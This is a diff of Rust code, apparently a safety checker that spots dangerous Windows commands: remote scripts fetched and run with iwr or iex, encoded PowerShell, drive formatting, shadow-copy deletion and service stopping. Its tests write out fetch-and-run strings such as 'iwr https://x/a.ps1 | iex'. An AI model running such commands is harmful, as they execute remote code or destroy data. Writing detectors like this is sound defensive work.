@@ -285,7 +285,7 @@ pub static RULES: &[Rule] = &[
     },
 ];
 
-const IEX_PROGRAMS: &[&str] = &["iex", "invoke-expression", "powershell", "pwsh", "powershell_ise", "cmd"];
+const IEX_PROGRAMS: &[&str] = &["iex", "invoke-expression", "powershell", "pwsh", "cmd"];
 
 /// One statement: command name (lowercased, directory and `.exe` removed),
 /// its words, and whether it came from inside a host's script.
@@ -301,30 +301,42 @@ fn base_name(word: &str) -> String {
     base.strip_suffix(".exe").unwrap_or(base).to_string()
 }
 
-/// The command itself and every statement of the host scripts it carries,
-/// with the host script texts (for the rules that read a pipeline whole).
-fn statements(cmd: &Command) -> (Vec<Stmt>, Vec<String>) {
-    let mut stmts = Vec::new();
-    let mut scripts = Vec::new();
-    expand(cmd.program.clone(), cmd.args.clone(), false, 0, &mut stmts, &mut scripts);
-    (stmts, scripts)
+/// The statements of one command line and the host scripts they came from.
+#[derive(Default)]
+struct Parsed {
+    stmts: Vec<Stmt>,
+    /// Host script texts, for the rules that read a pipeline whole.
+    scripts: Vec<String>,
 }
 
-fn expand(name: String, words: Vec<String>, nested: bool, depth: usize, stmts: &mut Vec<Stmt>, scripts: &mut Vec<String>) {
-    let script = match name.as_str() {
-        "cmd" => cmd_script(&words),
-        "powershell" | "pwsh" | "powershell_ise" => powershell_args(&words).1,
-        _ => None,
-    };
-    stmts.push(Stmt { name, words, nested });
-    let Some(script) = script.filter(|_| depth < MAX_DEPTH) else {
-        return;
-    };
-    for mut inner in split_statements(&script) {
-        let rest = inner.split_off(1);
-        expand(base_name(&inner[0]), rest, true, depth + 1, stmts, scripts);
+/// The command itself and every statement of the host scripts it carries.
+fn statements(cmd: &Command) -> Parsed {
+    let mut parsed = Parsed::default();
+    parsed.expand(cmd.program.clone(), cmd.args.clone(), false, 0);
+    parsed
+}
+
+impl Parsed {
+    fn expand(&mut self, name: String, words: Vec<String>, nested: bool, depth: usize) {
+        let script = match name.as_str() {
+            "cmd" => cmd_script(&words),
+            "powershell" | "pwsh" | "powershell_ise" => powershell_args(&words).1,
+            _ => None,
+        };
+        self.stmts.push(Stmt {
+            name,
+            words,
+            nested,
+        });
+        let Some(script) = script.filter(|_| depth < MAX_DEPTH) else {
+            return;
+        };
+        for mut inner in split_statements(&script) {
+            let rest = inner.split_off(1);
+            self.expand(base_name(&inner[0]), rest, true, depth + 1);
+        }
+        self.scripts.push(script);
     }
-    scripts.push(script);
 }
 
 /// The command line `cmd /c` or `/k` runs.
@@ -382,7 +394,10 @@ fn powershell_args(words: &[String]) -> (bool, Option<String>) {
         if key == "f" || abbreviates(&key, "file", &[], 2) || key.is_empty() {
             return (false, None);
         }
-        if valued.iter().any(|(full, aliases)| abbreviates(&key, full, aliases, 3)) {
+        if valued
+            .iter()
+            .any(|(full, aliases)| abbreviates(&key, full, aliases, 3))
+        {
             i += 1;
         }
         i += 1;
@@ -433,7 +448,10 @@ fn split_statements(script: &str) -> Vec<Vec<String>> {
 
 /// Whether some statement named one of `names` passes `pred`.
 fn any_stmt(cmd: &Command, names: &[&str], pred: impl Fn(&Stmt) -> bool) -> bool {
-    statements(cmd).0.iter().any(|s| names.contains(&s.name.as_str()) && pred(s))
+    statements(cmd)
+        .stmts
+        .iter()
+        .any(|s| names.contains(&s.name.as_str()) && pred(s))
 }
 
 /// A PowerShell switch, abbreviated to at least `min` letters (`-r`, `-Rec`),
@@ -441,31 +459,35 @@ fn any_stmt(cmd: &Command, names: &[&str], pred: impl Fn(&Stmt) -> bool) -> bool
 fn ps_switch(words: &[String], full: &str, min: usize) -> bool {
     words.iter().any(|w| {
         let off = w.to_ascii_lowercase().ends_with(":$false");
-        !off && ps_key(w).is_some_and(|k| w.starts_with('-') && k.len() >= min && full.starts_with(k.as_str()))
+        !off && ps_key(w)
+            .is_some_and(|k| w.starts_with('-') && k.len() >= min && full.starts_with(k.as_str()))
     })
 }
 
 /// A cmd-style switch (`/S`, `/w:c`, `/s/q`); with `dash`, `-S` too.
 fn switch(words: &[String], name: &str, dash: bool) -> bool {
     words.iter().any(|w| {
-        let body = match w.strip_prefix('/') {
-            Some(b) => b,
-            None if dash => match w.strip_prefix('-') {
-                Some(b) => b,
-                None => return false,
-            },
-            None => return false,
+        let slash = w.strip_prefix('/');
+        let Some(body) = slash.or_else(|| w.strip_prefix('-').filter(|_| dash)) else {
+            return false;
         };
         let pieces: Vec<&str> = body.split('/').collect();
         if pieces.len() > 1 && pieces.iter().any(|p| p.len() > 2) {
             return false;
         }
-        pieces.iter().any(|p| p.split(':').next().is_some_and(|k| k.eq_ignore_ascii_case(name)))
+        pieces.iter().any(|p| {
+            p.split(':')
+                .next()
+                .is_some_and(|k| k.eq_ignore_ascii_case(name))
+        })
     })
 }
 
 fn first_word_is(words: &[String], verb: &str) -> bool {
-    words.iter().find(|w| !w.starts_with('\\')).is_some_and(|w| w.eq_ignore_ascii_case(verb))
+    words
+        .iter()
+        .find(|w| !w.starts_with('\\'))
+        .is_some_and(|w| w.eq_ignore_ascii_case(verb))
 }
 
 const CMD_DELETES: &[&str] = &["del", "erase", "rd", "rmdir"];
@@ -497,29 +519,51 @@ fn direct_cmd_delete(cmd: &Command) -> bool {
 }
 
 fn powershell_encoded(cmd: &Command) -> bool {
-    any_stmt(cmd, &["powershell", "pwsh", "powershell_ise"], |s| powershell_args(&s.words).0)
+    any_stmt(cmd, &["powershell", "pwsh", "powershell_ise"], |s| {
+        powershell_args(&s.words).0
+    })
 }
 
-const WEB_CMDLETS: &[&str] = &["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "curl", "wget"];
+/// Cmdlets and aliases that download a URL's content.
+const WEB: &[&str] = &[
+    "iwr",
+    "irm",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "curl",
+    "wget",
+];
+/// Text in a PowerShell expression that means it fetches remote content.
+const DOWNLOADS: &[&str] = &[
+    "downloadstring",
+    "downloadfile",
+    "net.webclient",
+    "http://",
+    "https://",
+];
 
 fn mentions_download(text: &str) -> bool {
     let lower = text.to_ascii_lowercase();
-    lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-')).any(|w| WEB_CMDLETS.contains(&w))
-        || ["downloadstring", "downloadfile", "net.webclient", "http://", "https://"].iter().any(|m| lower.contains(m))
+    lower
+        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
+        .any(|w| WEB.contains(&w))
+        || DOWNLOADS.iter().any(|m| lower.contains(m))
 }
 
 fn iwr_piped_to_iex(cmd: &Command) -> bool {
-    if matches!(cmd.program.as_str(), "iex" | "invoke-expression") && cmd.fed_by(WEB_CMDLETS) {
+    if matches!(cmd.program.as_str(), "iex" | "invoke-expression") && cmd.fed_by(WEB) {
         return true;
     }
-    statements(cmd).1.iter().any(|script| {
+    statements(cmd).scripts.iter().any(|script| {
         // Within one statement chain: a download upstream of an iex.
         let lower = script.to_ascii_lowercase();
         lower.split([';', '\n']).any(|chain| {
             let stages: Vec<&str> = chain.split('|').collect();
             stages.iter().enumerate().skip(1).any(|(i, stage)| {
-                matches!(stage.split_whitespace().next(), Some("iex" | "invoke-expression"))
-                    && stages[..i].iter().any(|s| mentions_download(s))
+                matches!(
+                    stage.split_whitespace().next(),
+                    Some("iex" | "invoke-expression")
+                ) && stages[..i].iter().any(|s| mentions_download(s))
             })
         })
     })
@@ -527,8 +571,10 @@ fn iwr_piped_to_iex(cmd: &Command) -> bool {
 
 fn iex_of_download(cmd: &Command) -> bool {
     let own = format!("{} {}", cmd.program, cmd.arg_line());
-    let (_, scripts) = statements(cmd);
-    std::iter::once(own).chain(scripts).any(|text| runs_download(&text))
+    let scripts = statements(cmd).scripts;
+    std::iter::once(own)
+        .chain(scripts)
+        .any(|text| runs_download(&text))
 }
 
 /// Whether the text has an `iex`/`Invoke-Expression` whose argument downloads.
@@ -539,8 +585,13 @@ fn runs_download(text: &str) -> bool {
             let before = lower[..i].chars().next_back();
             let after = &lower[i + name.len()..];
             let starts_word = before.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '-'));
-            let ends_word = after.chars().next().is_none_or(|c| c.is_whitespace() || c == '(');
-            starts_word && ends_word && mentions_download(after.split([';', '|']).next().unwrap_or(""))
+            let ends_word = after
+                .chars()
+                .next()
+                .is_none_or(|c| c.is_whitespace() || c == '(');
+            starts_word
+                && ends_word
+                && mentions_download(after.split([';', '|']).next().unwrap_or(""))
         })
     })
 }
@@ -554,9 +605,12 @@ fn iex_remote(analysis: &Analysis) -> Option<String> {
         if !IEX_PROGRAMS.contains(&cmd.program.as_str()) {
             return None;
         }
-        let bare = matches!(cmd.program.as_str(), "iex" | "invoke-expression") && cmd.args.is_empty();
+        let bare =
+            matches!(cmd.program.as_str(), "iex" | "invoke-expression") && cmd.args.is_empty();
         if bare {
-            let next_downloads = commands.get(i + 1).is_some_and(|next| WEB_CMDLETS.contains(&next.program.as_str()));
+            let next_downloads = commands
+                .get(i + 1)
+                .is_some_and(|next| WEB.contains(&next.program.as_str()));
             if next_downloads || runs_download(&analysis.text) {
                 return Some(analysis.text.clone());
             }
@@ -590,9 +644,13 @@ fn diskpart(cmd: &Command) -> bool {
 fn format_drive(cmd: &Command) -> bool {
     let is_drive = |w: &String| {
         let b = w.as_bytes();
-        (b.len() == 2 || (b.len() == 3 && matches!(b[2], b'\\' | b'/'))) && b[0].is_ascii_alphabetic() && b[1] == b':'
+        (b.len() == 2 || (b.len() == 3 && matches!(b[2], b'\\' | b'/')))
+            && b[0].is_ascii_alphabetic()
+            && b[1] == b':'
     };
-    any_stmt(cmd, &["format", "format.com"], |s| s.words.iter().any(is_drive))
+    any_stmt(cmd, &["format", "format.com"], |s| {
+        s.words.iter().any(is_drive)
+    })
 }
 
 fn cipher_wipe(cmd: &Command) -> bool {
@@ -610,7 +668,9 @@ fn icacls_everyone(cmd: &Command) -> bool {
 }
 
 fn icacls_reset(cmd: &Command) -> bool {
-    any_stmt(cmd, &["icacls"], |s| switch(&s.words, "reset", false) && switch(&s.words, "t", false))
+    any_stmt(cmd, &["icacls"], |s| {
+        switch(&s.words, "reset", false) && switch(&s.words, "t", false)
+    })
 }
 
 fn shadow_delete(cmd: &Command) -> bool {
@@ -630,7 +690,9 @@ fn wbadmin_delete(cmd: &Command) -> bool {
 
 fn bcdedit_set(cmd: &Command) -> bool {
     any_stmt(cmd, &["bcdedit"], |s| {
-        ["set", "deletevalue", "delete"].iter().any(|v| switch(&s.words, v, true))
+        ["set", "deletevalue", "delete"]
+            .iter()
+            .any(|v| switch(&s.words, v, true))
     })
 }
 
@@ -649,17 +711,18 @@ fn remove_item_property(cmd: &Command) -> bool {
 }
 
 fn stop_service_force(cmd: &Command) -> bool {
-    any_stmt(cmd, &["stop-service", "spsv"], |s| ps_switch(&s.words, "force", 1))
+    any_stmt(cmd, &["stop-service", "spsv"], |s| {
+        ps_switch(&s.words, "force", 1)
+    })
 }
 
 fn sc_service(cmd: &Command) -> bool {
     any_stmt(cmd, &["sc"], |s| {
-        let verb = s.words.iter().find(|w| !w.starts_with('\\')).map(|w| w.to_ascii_lowercase());
-        match verb.as_deref() {
+        let line = s.words.join(" ").to_ascii_lowercase();
+        let verb = line.split(' ').find(|w| !w.starts_with('\\'));
+        match verb {
             Some("stop" | "delete" | "pause") => true,
-            Some("config") => s.words.windows(2).any(|w| {
-                w[0].eq_ignore_ascii_case("start=") && w[1].eq_ignore_ascii_case("disabled")
-            }) || s.words.iter().any(|w| w.eq_ignore_ascii_case("start=disabled")),
+            Some("config") => line.contains("start= disabled") || line.contains("start=disabled"),
             _ => false,
         }
     })
@@ -711,53 +774,74 @@ fn windows_hermes_secret(cmd: &Command) -> bool {
 mod tests {
     use super::*;
 
-    fn cmd(program: &str, args: &[&str]) -> Command {
+    /// A command from comma-separated words: program first.
+    fn c(words: &str) -> Command {
+        let mut words = words.split(',').map(String::from);
+        let program = words.next().unwrap_or_default();
         Command {
-            program: program.into(),
-            path: program.into(),
-            args: args.iter().map(|s| s.to_string()).collect(),
+            path: program.clone(),
+            program,
+            args: words.collect(),
             ..Command::default()
         }
     }
 
     #[test]
     fn host_scripts_become_statements() {
-        let c = cmd("powershell", &["-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", "Get-Process x | Stop-Process -Force"]);
-        let names: Vec<String> = statements(&c).0.into_iter().map(|s| s.name).collect();
+        let c1 = c(
+            "powershell,-NoP,-ExecutionPolicy,Bypass,-Command,Get-Process x | Stop-Process -Force",
+        );
+        let names: Vec<String> = statements(&c1).stmts.into_iter().map(|s| s.name).collect();
         assert_eq!(names, vec!["powershell", "get-process", "stop-process"]);
-        let nested = cmd("cmd", &["/c", "powershell", "-c", "\"Remove-Item -Recurse x\""]);
-        assert!(host_remove_item(&nested));
-        assert!(!host_remove_item(&cmd("powershell", &["Write-Host 'Remove-Item -Recurse x'"])));
+        assert!(host_remove_item(&c(
+            "cmd,/c,powershell,-c,\"Remove-Item -Recurse x\""
+        )));
+        assert!(!host_remove_item(&c(
+            "powershell,Write-Host 'Remove-Item -Recurse x'"
+        )));
     }
 
     #[test]
     fn encoded_spellings() {
-        for flag in ["-EncodedCommand", "-enc", "-e", "-ec", "/enc", "-en", "--encodedcommand"] {
-            assert!(powershell_encoded(&cmd("powershell", &["-NoP", flag, "AAAA"])), "{flag}");
+        for flag in [
+            "-EncodedCommand",
+            "-enc",
+            "-e",
+            "-ec",
+            "/enc",
+            "-en",
+            "--encodedcommand",
+        ] {
+            assert!(
+                powershell_encoded(&c(&format!("powershell,-NoP,{flag},AAAA"))),
+                "{flag}"
+            );
         }
-        assert!(!powershell_encoded(&cmd("powershell", &["-ex", "bypass", "x.ps1"])));
-        assert!(!powershell_encoded(&cmd("pwsh", &["-c", "Write-Host", "-e"])));
+        assert!(!powershell_encoded(&c("powershell,-ex,bypass,x.ps1")));
+        assert!(!powershell_encoded(&c("pwsh,-c,Write-Host,-e")));
     }
 
     #[test]
     fn switches() {
-        let w = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
-        assert!(switch(&w(&["/S/Q", "x"]), "q", false));
-        assert!(switch(&w(&["/w:C:"]), "w", false));
-        assert!(!switch(&w(&["/tmp/q"]), "q", false));
-        assert!(ps_switch(&w(&["-Rec"]), "recurse", 1));
-        assert!(!ps_switch(&w(&["-Recurse:$false"]), "recurse", 1));
-        assert!(!ps_switch(&w(&["-f"]), "force", 2));
+        let w = |v: &str| v.split(',').map(String::from).collect::<Vec<_>>();
+        assert!(switch(&w("/S/Q,x"), "q", false) && switch(&w("/w:C:"), "w", false));
+        assert!(!switch(&w("/tmp/q"), "q", false));
+        assert!(
+            ps_switch(&w("-Rec"), "recurse", 1) && !ps_switch(&w("-Recurse:$false"), "recurse", 1)
+        );
+        assert!(!ps_switch(&w("-f"), "force", 2));
     }
 
     #[test]
     fn remote_iex() {
-        assert!(iwr_piped_to_iex(&cmd("powershell", &["iwr https://x/a.ps1 | iex"])));
-        assert!(!iwr_piped_to_iex(&cmd("powershell", &["iex (iwr https://x/a.ps1)"])));
-        assert!(iex_of_download(&cmd("powershell", &["iex (iwr https://x/a.ps1)"])));
-        assert!(!iex_of_download(&cmd("powershell", &["iex $cmd"])));
-        let mut iex = cmd("iex", &[]);
-        iex.upstream = vec![cmd("iwr", &["https://x"])];
+        assert!(iwr_piped_to_iex(&c("powershell,iwr https://x/a.ps1 | iex")));
+        assert!(!iwr_piped_to_iex(&c(
+            "powershell,iex (iwr https://x/a.ps1)"
+        )));
+        assert!(iex_of_download(&c("powershell,iex (iwr https://x/a.ps1)")));
+        assert!(!iex_of_download(&c("powershell,iex $cmd")));
+        let mut iex = c("iex");
+        iex.upstream = vec![c("iwr,https://x")];
         assert!(iwr_piped_to_iex(&iex));
     }
 
